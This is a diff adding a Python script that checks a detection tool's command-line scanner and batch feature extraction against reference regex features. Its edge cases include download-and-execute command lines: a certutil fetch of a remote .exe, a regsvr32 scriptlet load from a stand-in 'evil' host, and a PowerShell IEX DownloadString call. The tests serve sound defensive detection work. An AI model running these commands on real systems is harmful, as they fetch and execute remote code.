@@ -0,0 +1,161 @@
+#!/usr/bin/env python3
+"""
+Verify the single-pass command-line scanner against the reference regex features,
+and batch feature extraction against per-event extraction
+"""
+
+import argparse
+import csv
+import time
+from pathlib import Path
+import sys
+
+import numpy as np
+import pandas as pd
+
+# Add parent directory to path
+sys.path.insert(0, str(Path(__file__).parent.parent))
+
+from app.ml.feature_extraction import FeatureExtractor
+
+# Hand-written cases covering overlapping keywords, ordering, newlines and IPs
+EDGE_CASES = [
+    'powershell -encodedcommand abc',
+    'powershell -e abc',
+    'start-process notepad',
+    'reg add hkcu\\run /v x',
+    'run reg add',
+    'reg query\nadd',
+    'reg\nadd run',
+    'schtasks /create /tn x /tr y*',
+    '*schtasks create',
+    'new-object net.webclient',
+    'net.webclient new-object',
+    'wmi process call create',
+    'cmd.exe /c whoami',
+    '/c cmd',
+    'powershell.exe -command get-process',
+    'certutil -urlcache -f http://10.0.0.1/a.exe',
+    'ping 192.168.1.1',
+    'version 1.2.3.4.5',
+    'x1.2.3.4',
+    'iexplore.exe',
+    'bitsadmin /transfer job',
+    'regsvr32 /s /n /u /i:https://evil/file.sct scrobj.dll',
+    'ſtart-proceſſ -nopro\u0131f\u0131le',
+    '\u212aill -\u0130ex',
+    '',
+]
+
+# Events whose lowercasing differs between Python's str.lower and pandas' .str.lower
+NON_ASCII_EVENTS = [
+    {'command_line': '\u0130EX (New-Object Net.WebClient).DownloadString(\'http://10.0.0.1/a\')',
+     'process_name': 'POWERSHELL.EXE', 'parent_image': '\u0130XPLORER.EXE', 'user': 'NT AUTHORITY\\SYSTEM',
+     'integrity_level': 'High'},
+    {'command_line': 'CMD /C STRA\u1E9EE \u212aILL', 'process_name': '\u0130cmd.exe', 'parent_image': None,
+     'user': '\u0130user', 'integrity_level': '\u0130Low'},
+    {'command_line': None, 'process_name': 'WM\u0130C.EXE', 'parent_image': 'SERV\u0130CES.EXE', 'user': '',
+     'integrity_level': None},
+]
+
+
+def reference_indicators(extractor: FeatureExtractor, command_line: str) -> dict:
+    """Indicator features computed with the original per-feature regex helpers."""
+    return {
+        'suspicious_pattern_count': extractor._count_suspicious_patterns(command_line),
+        'has_encoded_command': 1.0 if extractor._has_encoded_command(command_line) else 0.0,
+        'has_network_activity': 1.0 if extractor._has_network_activity(command_line) else 0.0,
+        'has_file_operation': 1.0 if extractor._has_file_operation(command_line) else 0.0,
+        'has_registry_operation': 1.0 if extractor._has_registry_operation(command_line) else 0.0,
+        'has_process_creation': 1.0 if extractor._has_process_creation(command_line) else 0.0,
+        'has_url': 1.0 if extractor._has_url(command_line) else 0.0,
+        'has_ip_address': 1.0 if extractor._has_ip_address(command_line) else 0.0
+    }
+
+
+def verify_batch_extraction(extractor: FeatureExtractor, events: list, max_mismatches: int) -> int:
+    """Compare extract_batch with extract_features row by row; returns the number of mismatching events."""
+    feature_names = extractor.get_feature_names()
+    batch = extractor.extract_batch(pd.DataFrame(events, columns=FeatureExtractor.BATCH_COLUMNS))
+    
+    mismatches = 0
+    for event, row in zip(events, batch):
+        expected = extractor.to_vector(extractor.extract_features(event), feature_names)
+        if not np.allclose(row, expected):
+            mismatches += 1
+            if mismatches <= max_mismatches:
+                diff = {name: (float(expected[i]), float(row[i]))
+                        for i, name in enumerate(feature_names) if not np.isclose(row[i], expected[i])}
+                print(f"  BATCH MISMATCH {str(event.get('command_line'))[:80]!r}: {diff}")
+    return mismatches
+
+
+def load_command_lines(data_dir: Path) -> list:
+    """Collect command lines from every CSV under the data directory."""
+    command_lines = []
+    for csv_path in sorted(data_dir.rglob('*.csv')):
+        with open(csv_path, newline='', encoding='utf-8') as f:
+            reader = csv.DictReader(f)
+            if 'command_line' not in (reader.fieldnames or []):
+                continue
+            rows = [row['command_line'] or '' for row in reader]
+        print(f"  {csv_path}: {len(rows):,} command lines")
+        command_lines.extend(rows)
+    return command_lines
+
+
+def main():
+    parser = argparse.ArgumentParser(description='Verify single-pass scanner output against reference regex features')
+    parser.add_argument('--data-dir', type=str, default='data/processed', help='Directory searched recursively for CSVs')
+    parser.add_argument('--max-mismatches', type=int, default=10, help='Mismatches to print before stopping')
+    
+    args = parser.parse_args()
+    
+    extractor = FeatureExtractor()
+    
+    print(f"Loading command lines from {args.data_dir}...")
+    command_lines = load_command_lines(Path(args.data_dir))
+    # extract_features lowercases command lines before scanning
+    command_lines = [line.lower() for line in command_lines + EDGE_CASES]
+    command_lines += [line.upper().lower() for line in EDGE_CASES]
+    
+    mismatches = 0
+    for command_line in command_lines:
+        expected = reference_indicators(extractor, command_line)
+        actual = extractor.scanner.scan(command_line)
+        if actual != expected:
+            mismatches += 1
+            if mismatches <= args.max_mismatches:
+                diff = {name: (expected[name], actual[name]) for name in expected if expected[name] != actual[name]}
+                print(f"  MISMATCH {command_line[:80]!r}: {diff}")
+    
+    print(f"\nChecked {len(command_lines):,} command lines, {mismatches} mismatches")
+    
+    # Batch extraction over the raw edge cases, mixed-case and non-ASCII events
+    events = NON_ASCII_EVENTS + [
+        {'command_line': line, 'process_name': line, 'parent_image': line, 'user': line, 'integrity_level': line}
+        for line in EDGE_CASES + [line.upper() for line in EDGE_CASES]
+    ]
+    batch_mismatches = verify_batch_extraction(extractor, events, args.max_mismatches)
+    print(f"Checked {len(events):,} events with batch extraction, {batch_mismatches} mismatches")
+    mismatches += batch_mismatches
+    
+    start = time.perf_counter()
+    for command_line in command_lines:
+        reference_indicators(extractor, command_line)
+    reference_seconds = time.perf_counter() - start
+    
+    start = time.perf_counter()
+    for command_line in command_lines:
+        extractor.scanner.scan(command_line)
+    scanner_seconds = time.perf_counter() - start
+    
+    print(f"Reference regex features: {reference_seconds:.2f}s")
+    print(f"Single-pass scanner:      {scanner_seconds:.2f}s ({reference_seconds / scanner_seconds:.1f}x)")
+    
+    if mismatches:
+        sys.exit(1)
+
+
+if __name__ == "__main__":
+    main()